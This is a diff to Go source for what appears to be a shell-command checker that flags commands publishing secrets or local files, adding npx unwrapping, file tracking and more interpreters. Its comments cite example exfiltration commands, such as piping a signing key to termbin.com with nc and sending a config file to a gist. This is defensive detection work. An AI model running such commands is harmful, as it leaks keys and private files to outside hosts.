@@ -36,6 +36,9 @@ type source struct {
 	// namedSecret, a service account's key, wp-config.php), which reading
 	// alone does not hold: only sending it or filling a file with it does.
 	named bool
+	// file is the local file a srcFile is, when the command names it
+	// (< conf/app.conf, cat conf/app.conf): what publishing it sends.
+	file string
 }
 
 type srcKind int
@@ -86,6 +89,7 @@ func (w *walker) redirIn(r *syntax.Redirect, sc *scope) source {
 			if p := w.c.tilde(f[0].s); namedSecret(p) { // nc termbin.com 9999 < keys/signing.pem
 				return source{kind: srcSecret, text: p, named: true}
 			}
+			return source{kind: srcFile, file: f[0].s}
 		}
 		return source{kind: srcFile}
 	}
@@ -141,11 +145,17 @@ func (w *walker) printed(st *syntax.Stmt, sc *scope, prev source) source {
 	if err != nil || len(args) == 0 || !args[0].ok {
 		return source{kind: srcPipe}
 	}
+	all := args
 	args = unwrapQuiet(args)
 	if len(args) == 0 || !args[0].ok {
 		return source{kind: srcPipe}
 	}
 	name := path.Base(args[0].s)
+	if slices.ContainsFunc(all[:len(all)-len(args)], func(a arg) bool { // the wrappers unwrapQuiet took off
+		return a.ok && (path.Base(a.s) == "npx" || path.Base(a.s) == "bunx" || path.Base(a.s) == "pnpx")
+	}) {
+		name = binOf(args[0].s) // npx netlify-cli env:list: netlify's
+	}
 	if name == "find" && len(args) > 1 && args[1].ok && !strings.HasPrefix(args[1].s, "-") {
 		pattern, every := "", true
 		for i, a := range args {
@@ -265,6 +275,9 @@ func (w *walker) printed(st *syntax.Stmt, sc *scope, prev source) source {
 				if (r.Op == syntax.Hdoc || r.Op == syntax.DashHdoc) && r.Hdoc != nil {
 					return source{kind: srcText, text: wordSource(sc.src, r.Hdoc), values: hdocValues(r)}
 				}
+			}
+			if _, ops := opts(args[1:]); len(ops) == 1 && ops[0].ok {
+				return source{kind: srcFile, file: ops[0].s} // cat conf/app.conf | gh gist create -
 			}
 			return source{kind: srcFile}
 		}
@@ -485,6 +498,26 @@ var quietWrappers = map[string]struct {
 	"ionice":   {[]string{"-c", "-n"}, 0},
 	"timeout":  {[]string{"-s", "--signal", "-k", "--kill-after"}, 1},
 	"gtimeout": {[]string{"-s", "--signal", "-k", "--kill-after"}, 1},
+	"npx":      {[]string{"-p", "--package", "-c", "--call"}, 0}, "bunx": {[]string{"-p", "--package"}, 0}, "pnpx": {[]string{"-p", "--package"}, 0},
+}
+
+// binOf is the command an npm package installs, by the package's name as
+// npx is given it: netlify-cli is netlify, @railway/cli is railway,
+// firebase-tools is firebase; any other word its base name.
+func binOf(w string) string {
+	if scope, ok := strings.CutSuffix(w, "/cli"); ok && strings.HasPrefix(scope, "@") && !strings.Contains(scope, "/") {
+		return scope[1:]
+	}
+	name := path.Base(w)
+	if v, _, ok := strings.Cut(name, "@"); ok && v != "" {
+		name = v // netlify-cli@17
+	}
+	for _, suf := range []string{"-cli", "-tools"} {
+		if b, ok := strings.CutSuffix(name, suf); ok && b != "" && !strings.Contains(w, "/") {
+			return b
+		}
+	}
+	return name
 }
 
 // unwrapQuiet strips the simplest wrappers (sudo, env, timeout …) without
@@ -1005,6 +1038,6 @@ func printsEnv(name string, args []arg) bool {
 // codeInterp names the interpreters printsEnv reads; codeOpt are the
 // options that give them code.
 var (
-	codeInterp = lazyRE(`^(?:python[\d.]*|pypy3?|node|nodejs|bun|ruby|perl|php[\d.]*)$`)
+	codeInterp = lazyRE(`^(?:python[\d.]*|pypy3?|node|nodejs|bun|deno|ruby|perl|php[\d.]*|clojure|clj|bb|groovy|scala|kotlin|jshell|elixir|iex|julia|Rscript|R|lua|luajit|raku|perl6)$`)
 	codeOpt    = map[string]bool{"-c": true, "-e": true, "-E": true, "-p": true, "-r": true, "--eval": true, "--print": true}
 )
